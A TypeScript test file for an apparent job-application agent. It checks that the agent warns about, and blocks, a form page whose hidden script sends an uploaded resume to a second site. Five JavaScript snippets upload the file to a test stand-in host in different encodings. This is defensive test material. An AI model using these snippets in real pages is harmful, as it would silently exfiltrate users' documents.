import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { fewOf } from '#tests/setup/few-of.ts';
import { apply } from '../apply-harness.ts';
import { onSites } from './on-sites.ts';
import { asPage, QUESTIONS } from './serve-site.ts';

const { browser, sites } = await onSites();

it.each(
  fewOf([
    [
      'in a form of its own',
      `const u = new FormData(); u.append('file', file); fetch(to + '/put', { method: 'POST', body: u })`,
    ],
    [
      'as it is',
      `fetch(to + '/put', { method: 'PUT', headers: { 'content-type': 'application/pdf' }, body: file })`,
    ],
    [
      'written down in base64',
      `const reader = new FileReader(); reader.onload = () => fetch(to + '/put', { method: 'POST', body: JSON.stringify({ name: file.name, data: reader.result }) }); reader.readAsDataURL(file)`,
    ],
    [
      'written down in base64, of which nothing is said',
      `const reader = new FileReader(); reader.onload = () => fetch(to + '/put', { method: 'POST', body: new URLSearchParams({ cv: reader.result.split(',')[1] }) }); reader.readAsDataURL(file)`,
    ],
    [
      'written down in numbers',
      `file.arrayBuffer().then((all) => fetch(to + '/put', { method: 'POST', body: JSON.stringify({ cv: [...new Uint8Array(all)] }) }))`,
    ],
  ]),
)('says at the review that a file was held back from a place that nobody knows: %s', async (_how, put) => {
  const resume = { path: join(browser.profileDir, 'file-18.bin'), name: 'Ada Byron - Resume.pdf' };
  writeFileSync(resume.path, '%PDF-1.4 a resume, and what it says of work and of schools, line by line');
  const url = sites.page(
    '/kept-elsewhere',
    asPage(
      `<form id="f" action="/receive" method="post" enctype="multipart/form-data">${QUESTIONS}<p><label for="cv">Resume *</label> <input id="cv" name="cv" type="file" required></p><button>Submit application</button></form><script>const to = '${sites.other}'; f.cv.onchange = () => { const [file] = f.cv.files; ${put} };</script>`,
    ),
  );
  const { reviews, report } = await apply(browser.host, { url, resume });
  expect(reviews[0]?.warnings.join()).toMatch(
    new RegExp(`put a file of yours at ${new URL(sites.other).host}`),
  );
  expect(sites.arrived.filter(({ path }) => path === '/put')).toEqual([]);
  expect(report.submitted).toBe('confirmed');
});
